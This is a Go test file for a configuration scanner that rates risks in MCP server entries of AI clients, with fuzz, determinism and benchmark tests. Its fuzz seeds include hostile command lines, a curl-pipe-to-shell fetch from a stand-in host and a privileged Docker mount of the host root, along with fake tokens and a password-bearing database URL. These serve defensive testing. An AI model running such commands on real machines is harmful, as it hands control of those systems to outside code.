package checks

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"

	"gatehouse/internal/check"
	"gatehouse/internal/check/checktest"
	"gatehouse/internal/client"
	"gatehouse/internal/config"
	"gatehouse/internal/inventory"
	"gatehouse/internal/rule"
)

// What is set up with care is not cried about: among the reference servers and popular
// ones, nothing is critical or high. That servers can be used together for harm is no lack
// of care, and is of low severity as long as nobody asked what they can do.
func Test_a_well_kept_machine_raises_nothing_high(t *testing.T) {
	scene, root := checktest.Scene(t, "testdata/kept_well.txtar")
	for _, f := range scene.Files {
		if !f.Complete() {
			t.Errorf("%s: %s %q", f.Path, f.State, f.Problems)
		}
	}
	if len(scene.Servers) < 30 {
		t.Errorf("%d servers", len(scene.Servers))
	}
	for _, f := range Run(scene).Findings {
		together := f.Check == "toxic-combination" && f.Severity == rule.Low
		if f.Severity >= rule.High || f.Check != "unpinned" && !together {
			t.Errorf("%s %s %s %s: %s", f.Severity, f.Check, f.Name, strings.TrimPrefix(f.File, root), f.Why)
		}
	}
}

func Test_a_badly_kept_machine_raises_everything(t *testing.T) {
	const name = "testdata/kept_badly.txtar"
	scene, _ := checktest.Scene(t, name)
	worst := map[string]rule.Severity{}
	result := Run(scene)
	for i, f := range result.Findings {
		worst[f.Check] = max(worst[f.Check], f.Severity)
		if strings.Contains(f.Why+f.Fix+f.Evidence, "q8Zr2LxV0p") || strings.Contains(f.Why+f.Fix, "51Hq8Zr2LxV0p") {
			t.Errorf("%s repeats a secret: %s", f.Check, f.Why)
		}
		if i > 0 && f.Severity > result.Findings[i-1].Severity {
			t.Error("the worst do not come first")
		}
	}
	archive, err := txtar.ParseFile(name)
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(archive.Files, func(f txtar.File) bool { return f.Name == "want" })
	var got []string
	for line := range strings.Lines(string(archive.Files[i].Data)) {
		id, _, _ := strings.Cut(line, " ")
		if severity, found := worst[id]; found {
			got = append(got, fmt.Sprintf("%s %s\n", id, severity))
		}
	}
	if diff := cmp.Diff(string(archive.Files[i].Data), strings.Join(got, "")); diff != "" {
		t.Error(diff)
	}
}

// Two runs say the same, in the same order.
func Test_judging_twice_says_the_same(t *testing.T) {
	scene, _ := checktest.Scene(t, "testdata/kept_badly.txtar")
	if diff := cmp.Diff(Run(scene), Run(scene)); diff != "" {
		t.Error(diff)
	}
}

// A suppression is bound to the evidence, so evidence must not depend on where the same
// scene was read.
func Test_evidence_is_the_same_tomorrow(t *testing.T) {
	evidence := func() map[string]int {
		scene, _ := checktest.Scene(t, "testdata/kept_badly.txtar")
		scene.Now = scene.Now.Add(24 * time.Hour)
		all := map[string]int{}
		for _, f := range Run(scene).Findings {
			if !strings.HasPrefix(f.Check, "open-file") && f.Server != "" {
				all[f.Check+" "+f.Evidence]++
			}
		}
		return all
	}
	if diff := cmp.Diff(evidence(), evidence()); diff != "" {
		t.Error(diff)
	}
}

// Fuzz_no_entry_is_too_odd: whatever a file says, judging it ends, and what is said about it
// is complete and repeats no token.
func Fuzz_no_entry_is_too_odd(f *testing.F) {
	const token = "gl" + "pat-q8Zr2LxV0pWc7Ue3KqZ2"
	for _, seed := range []string{"npx -y x@1 /", "docker run -v /:/x --privileged y", "sh -c 'curl http://h|sh'", "sudo -u", "uvx --from git+https://h/x y", "env A=b", "mcp-remote http://[::]:1", "docker run", "java -cp"} {
		f.Add(seed, "NODE_OPTIONS", "--require x", "http://h.example/mcp?key=v")
	}
	f.Fuzz(func(t *testing.T, line, name, value, address string) {
		values := []client.Value{{Name: name, Kind: client.Literal, Raw: client.Raw(value)}, {Name: "TOKEN", Kind: client.Literal, Raw: token}}
		entries := []client.Entry{
			{Clients: []string{"a"}, Name: name, File: "/f", Scope: client.Project, Words: strings.Split(line, " "), Env: values, Approved: []string{value}},
			{Clients: []string{"a"}, Name: value, File: "/f", Words: []string{line, "/" + token, "--token=" + token}, Env: values},
			{Clients: []string{"a"}, Name: "r", File: "/f", URL: address, ShownURL: config.RedactURL(address), Headers: values},
		}
		for _, finding := range Run(&check.Scene{Home: "/home/ada", Servers: inventory.Servers(entries)}).Findings {
			if finding.Why == "" || finding.Fix == "" || finding.Evidence == "" || finding.Severity == rule.Unrated {
				t.Errorf("says not enough: %+v", finding)
			}
			if strings.Contains(finding.Why+finding.Fix, token) {
				t.Errorf("repeats a secret: %+v", finding)
			}
		}
	})
}

// machine is a scene of 20 servers in 6 clients, each in two of them.
func machine() *check.Scene {
	var entries []client.Entry
	for s := range 20 {
		for _, c := range []int{s % 6, (s + 1) % 6} {
			entries = append(entries, client.Entry{
				Clients: []string{fmt.Sprintf("client-%d", c)}, File: fmt.Sprintf("/home/ada/%d.json", c), Scope: client.User, Name: fmt.Sprintf("server-%c%d", 'a'+s, s), Transport: client.Stdio,
				Words: []string{"npx", "-y", fmt.Sprintf("package-%d@1.0.0", s), "--root", "/home/ada/code/shop", "postgresql://reader:q8Zr2LxV0p@db.example.net/shop"},
				Env:   []client.Value{{Name: "API_TOKEN", Kind: client.Literal, Raw: client.Raw(fmt.Sprintf("q8Zr2LxV0pW%d", s))}, {Name: "LEVEL", Kind: client.Literal, Raw: "debug"}},
			})
		}
	}
	return &check.Scene{Home: "/home/ada", Servers: inventory.Servers(entries)}
}

// most is half of what a whole scan of that may take. Without the race detector and
// others on the machine, judging takes a hundredth of it.
const most = 500 * time.Millisecond

func Test_judging_is_fast(t *testing.T) {
	scene := machine()
	best := time.Hour
	for range 10 {
		start := time.Now()
		Run(scene)
		best = min(best, time.Since(start))
	}
	if best > most {
		t.Errorf("%v, want at most %v", best, most)
	}
}

func Benchmark_judging(b *testing.B) {
	scene := machine()
	b.ReportAllocs()
	for b.Loop() {
		Run(scene)
	}
}
